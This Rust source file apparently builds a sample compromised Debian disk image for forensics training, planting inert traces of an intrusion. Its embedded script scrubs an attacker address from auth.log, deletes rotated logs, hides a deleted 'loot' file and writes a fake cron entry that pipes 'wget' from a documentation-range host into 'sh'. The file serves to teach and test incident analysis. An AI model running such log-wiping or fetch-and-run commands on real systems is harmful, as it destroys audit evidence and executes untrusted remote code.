//! The sample compromised disk: a real Debian system with the traces of an intrusion planted.
//!
//! Everything planted is inert: programs only say that they ran, scripts only do that too, and all
//! addresses are from the documentation ranges. `README.md` beside this file lists each trace.

mod accounts;
mod logs;
mod persistence;
mod plant;
mod programs;

use crate::disk::{Bus, Disk};
use crate::error::{Doing, Result};
use crate::packages::{Depth, install};
use crate::workshop::Workshop;
use crate::{cache, digest, fat, process, program};
use plant::Plant;
use std::path::{Path, PathBuf};

const MIB: u64 = 1 << 20;
const DISK_BYTES: u64 = 1280 * MIB;
const ESP_BYTES: u64 = 64 * MIB;
/// Both partitions begin on a MiB, as partitioning tools do it.
const ESP_START: u64 = MIB;
/// Byte at which the root file system of the sample disk begins.
pub const ROOT_START: u64 = ESP_START + ESP_BYTES;
const ROOT_BYTES: u64 = DISK_BYTES - ROOT_START - MIB;

const SUITE: &str = "bookworm";
const PACKAGES: [&str; 12] = [
    "ca-certificates",
    "cron",
    "iproute2",
    "libpam-systemd",
    "logrotate",
    "nano",
    "nginx-light",
    "openssh-server",
    "rsyslog",
    "sudo",
    "systemd-sysv",
    "wget",
];
/// When the power was cut, by the machine's own clock.
const CLOCK: &str = "2026-03-15T03:12:00";
const ROOT_UUID: &str = "7d1c3f54-5a0e-4d7e-9a53-0c0ffee00001";

/// What a canary says when it runs. No file on the disk contains it in one piece.
pub const CANARY: &str = "GBX-CANARY-42";

/// What the intruder did last; the power cut leaves it in the journal. `$M` is the root.
const LAST_HOUR: &str = r#"
    sed -i '/198\.51\.100\.23/d' $M/var/log/auth.log
    rm -f $M/var/log/auth.log.1
    head -c 400000 /dev/zero | tr '\0' L >$M/var/tmp/.loot.tgz; sync $M/var/tmp/.loot.tgz
    (exec 3<$M/var/tmp/.loot.tgz; rm $M/var/tmp/.loot.tgz; exec sleep 100000) & sleep 1
    echo 'rm -f /var/log/auth.log.1' >>$M/root/.bash_history
    echo 'Mar 15 03:11:58 web1 CRON[4242]: (root) CMD (wget -qO- http://198.51.100.23/u | sh)' >>$M/var/log/syslog
    sync $M/root/.bash_history $M/var/log/auth.log $M/var/log/syslog
"#;

/// The sample disk, made when it is not in the cache.
///
/// # Errors
/// [`crate::Error::Machine`] when a package, a tool or the workshop fails.
pub fn disk() -> Result<PathBuf> {
    let canary = program::build_static("assault", "canary")?;
    let bytes = std::fs::read(&canary).doing("reading", &canary)?;
    let key = format!(
        "{SUITE} {PACKAGES:?} {DISK_BYTES} {CLOCK} {LAST_HOUR} {} {}",
        digest::of_bytes(&bytes),
        plant::recipe()
    );
    let folder = cache::folder("sample", &key, |folder| make(folder, &bytes))?;
    Ok(folder.join("sample.img"))
}

fn make(folder: &Path, canary: &[u8]) -> Result<()> {
    let key = format!("{SUITE} {PACKAGES:?}");
    let packages = cache::folder("system", &key, |folder| {
        install(&folder.join("tree"), SUITE, Depth::Installed, &PACKAGES)
    })?;
    let tree = folder.join("tree");
    let (from, to) = (packages.join("tree"), tree.to_string_lossy().into_owned());
    process::run("cp", &["-a", "--", &from.to_string_lossy(), &to])?;
    let plant = Plant::new(&tree, canary);
    accounts::plant(&plant)?;
    persistence::plant(&plant)?;
    programs::plant(&plant)?;
    logs::plant(&plant)?;

    let image = folder.join("sample.img");
    digest::sparse(&image, DISK_BYTES)?;
    fat::partition(
        &image,
        &[
            ("EFI", ESP_START, ESP_BYTES, gpt::partition_types::EFI),
            ("root", ROOT_START, ROOT_BYTES, gpt::partition_types::LINUX_FS),
        ],
    )?;
    esp(&image)?;
    let offset = format!("offset={ROOT_START},lazy_itable_init=0,lazy_journal_init=0");
    let blocks = (ROOT_BYTES / 4096).to_string();
    let image_text = image.to_string_lossy().into_owned();
    process::run(
        "mke2fs",
        &[
            "-q",
            "-F",
            "-t",
            "ext4",
            "-b",
            "4096",
            "-L",
            "root",
            "-U",
            ROOT_UUID,
            "-d",
            &to,
            "-E",
            &offset,
            &image_text,
            &blocks,
        ],
    )?;
    std::fs::remove_dir_all(&tree).doing("removing", &tree)?;

    let disk = Disk::new("sample", &image, Bus::VirtioBlk);
    let mut workshop = Workshop::start_at(&folder.join("log"), &[disk], CLOCK)?;
    workshop.run("M=/mnt/root && mkdir -p $M && mount $(disk SAMPLE)2 $M")?;
    workshop.run(LAST_HOUR)?;
    workshop.cut()
}

/// A FAT file system with a loader's folder, as an installed system has it.
fn esp(image: &Path) -> Result<()> {
    let text = format!("search.fs_uuid {ROOT_UUID} root\nset prefix=($root)/boot/grub\n");
    let volume = fat::volume(ESP_BYTES, &[("EFI/debian/grub.cfg", text.as_bytes())])?;
    fat::write_at(image, ESP_START, &volume)
}
